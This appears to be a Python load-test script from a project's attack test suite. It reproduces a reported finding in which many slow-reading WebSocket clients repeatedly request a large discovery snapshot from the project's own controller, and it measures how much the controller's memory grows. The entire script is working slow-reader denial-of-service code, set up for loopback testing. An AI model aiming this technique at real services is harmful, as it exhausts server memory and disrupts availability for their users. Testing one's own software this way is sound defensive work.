# Finding 1 of issue 10, as the issue ran it: N /ws/discovery connections ask
# for the 10,000-node snapshot over and over and read slowly. Prints the
# controller's VmRSS before and at the peak, and how many attackers were cut.
#
# Only loopback. Usage (a controller with 10,000 instances of "big"):
#   tether controller --listen 127.0.0.1:18438 --admin 127.0.0.1:18439 --shards 2 &
#   tether agent --controller ws://127.0.0.1:18438/ws/microservice \
#       --service-id big --swarm 10000 --source-ips 127.0.0.2-127.0.0.3 &
#   python3 loadtest/attacks/slow_lookups.py $(pgrep -f 'listen 127.0.0.1:18438') 18438 36 20 big
# Bounded: N threads for SECS seconds.
import base64, os, socket, struct, sys, time, threading, json

ctl_pid, port, n, secs = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
service = sys.argv[5]

def rss_kb(pid):
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("VmRSS:"):
            return int(line.split()[1])

def frame(text):
    data = text.encode(); mask = os.urandom(4)
    head = bytes([0x81])
    l = len(data)
    head += bytes([0x80 | l]) if l < 126 else bytes([0x80 | 126]) + struct.pack(">H", l)
    return head + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data))

cut = 0
lock = threading.Lock()
def attacker(i):
    global cut
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.connect(("127.0.0.1", port))
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(f"GET /ws/discovery HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
    s.settimeout(0.05)
    end = time.time() + secs; nid = 0
    while time.time() < end:
        nid += 1
        try:
            s.sendall(frame(json.dumps({"jsonrpc": "2.0", "id": nid, "method": "discovery/lookup", "params": {"serviceId": service}})))
            data = s.recv(8192)   # read slowly: 8 KiB per 20 ms
            if data == b"":
                with lock: cut += 1
                return
        except socket.timeout:
            pass
        except OSError:
            with lock: cut += 1
            return
        time.sleep(0.02)

before = rss_kb(ctl_pid)
threads = [threading.Thread(target=attacker, args=(i,)) for i in range(n)]
for t in threads: t.start()
peak = before; end = time.time() + secs
while time.time() < end:
    peak = max(peak, rss_kb(ctl_pid)); time.sleep(0.1)
for t in threads: t.join()
print(f"attackers {n}, {secs:.0f} s: controller VmRSS before {before/1024:.0f} MiB, peak {peak/1024:.0f} MiB (+{(peak-before)/1024:.0f} MiB); cut {cut}")
